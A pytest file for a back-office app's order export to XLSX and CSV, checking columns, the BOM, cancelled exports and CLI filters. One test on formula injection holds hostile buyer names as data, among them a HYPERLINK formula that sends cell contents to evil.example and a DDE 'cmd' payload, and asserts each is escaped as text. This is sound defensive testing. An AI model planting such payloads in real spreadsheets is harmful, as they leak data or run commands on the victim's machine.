"""Export (R36) read back with openpyxl and csv, from the service and from `backoffice export`."""

from __future__ import annotations

import argparse
import csv

import openpyxl
import pytest

from backoffice.app import open_database
from backoffice.cli import export as export_cli
from backoffice.db.listing import ListFilter
from backoffice.domain.errors import DomainError
from backoffice.domain.stages import Stage
from backoffice.services.lists import export as export_service
from backoffice.services.lists.export import export_orders
from tests.listing_builders import place_for


@pytest.fixture
def three(uow, catalog):
    return [
        place_for(uow, "김민준", stage=Stage.RECEIVED, minutes=0),
        place_for(uow, "이서연", stage=Stage.PREPARING, minutes=60 * 24),
        place_for(uow, "박서준", stage=Stage.RECEIVED, minutes=60 * 48),
    ]


@pytest.mark.rule("R36")
def test_xlsx_export_has_the_chosen_columns_and_rows(session, three, tmp_path):
    out = tmp_path / "orders.xlsx"
    n = export_orders(
        session,
        out,
        ListFilter(stages=("received",)),
        ["code", "buyer", "total"],
        ["주문번호", "주문자", "결제금액"],
    )
    assert n == 2
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert rows[0] == ("주문번호", "주문자", "결제금액")
    assert rows[1:] == [(three[2], "박서준", 22000), (three[0], "김민준", 22000)]


@pytest.mark.rule("R36")
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_stopped_export_writes_no_file_at_all(session, three, tmp_path, monkeypatch, suffix):
    monkeypatch.setattr(export_service, "EXPORT_PAGE", 1)  # a page an order: stop after the first
    folder = tmp_path / "exports"
    folder.mkdir()
    out = folder / f"orders{suffix}"
    written: list[int] = []
    with pytest.raises(DomainError, match="Export stopped; no file was written"):
        export_orders(
            session,
            out,
            ListFilter(),
            ["code"],
            progress=written.append,
            should_stop=lambda: bool(written),
        )
    assert written == [1]  # one page was written before the stop
    assert list(folder.iterdir()) == []  # neither the file nor its .part


@pytest.mark.rule("R36")
def test_csv_export_is_utf8_with_bom_for_excel(session, three, tmp_path):
    out = tmp_path / "orders.csv"
    export_orders(session, out, ListFilter(ids=()), ["code"])
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    export_orders(session, out, ListFilter(search="서연"), ["buyer", "stage"])
    with out.open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh)) == [["Buyer", "Stage"], ["이서연", "Preparing"]]


def cli_main(argv: list[str]) -> int:
    """`backoffice export …` through the command module's own parser and handler."""
    parser = argparse.ArgumentParser(prog="backoffice")
    parser.add_argument("--db")
    export_cli.register(parser.add_subparsers())
    args = parser.parse_args(argv)
    ctx = open_database(args.db)
    try:
        return args.handler(args, ctx)
    except DomainError:
        return 1
    finally:
        ctx.close()


@pytest.mark.rule("R36")
def test_cli_export_by_stage_and_dates(db_url, three, tmp_path, capsys):
    out = tmp_path / "cli.xlsx"
    code = cli_main(
        [
            "--db",
            db_url,
            "export",
            "--out",
            str(out),
            "--stage",
            "received",
            "--from",
            "2026-03-01",
            "--to",
            "2026-03-03",
            "--lang",
            "ko",
        ]
    )
    assert code == 0, capsys.readouterr().err
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("주문번호", "쇼핑몰 주문번호", "주문일시")
    assert [r[0] for r in rows[1:]] == [three[0]]  # the 4th (local day) is outside the range
    assert rows[1][8] == "주문접수"
    bad = cli_main(["--db", db_url, "export", "--out", str(tmp_path / "x.pdf")])
    assert bad == 1


@pytest.mark.rule("R36")
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_shop_data_never_becomes_a_live_formula(session, uow, catalog, tmp_path, suffix):
    """CSV / formula injection: a buyer named `=HYPERLINK(…)` is text in the file, not a formula."""
    evil = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+82 10-1234-5678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ]
    for minutes, name in enumerate(evil):
        place_for(uow, name, minutes=minutes)
    out = tmp_path / f"orders{suffix}"
    export_orders(session, out, ListFilter(), ["buyer", "total"])
    if suffix == ".xlsx":
        sheet = openpyxl.load_workbook(out).active
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]
        values = [c.value.replace("\n", "\r") for c in cells]  # XML reads a CR back as LF
        totals = [row[1].value for row in sheet.iter_rows(min_row=2)]
        assert all(isinstance(t, int) for t in totals)  # numbers stay numbers
    else:
        with out.open(encoding="utf-8-sig", newline="") as fh:
            values = [row[0] for row in list(csv.reader(fh))[1:]]
    assert sorted(values) == sorted("'" + name for name in evil)
